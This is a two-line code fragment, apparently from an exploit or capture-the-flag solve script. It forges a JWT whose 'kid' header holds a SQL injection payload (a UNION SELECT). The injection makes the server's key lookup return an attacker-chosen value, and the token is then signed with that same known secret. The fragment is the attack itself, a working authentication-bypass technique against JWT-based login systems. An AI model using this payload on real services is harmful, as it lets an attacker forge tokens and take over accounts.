# requirement: as many columns as the question has
queried = forge({"alg": "HS256", "kid": "' UNION SELECT 'a', 'b"}, wanted, secret=b"b")
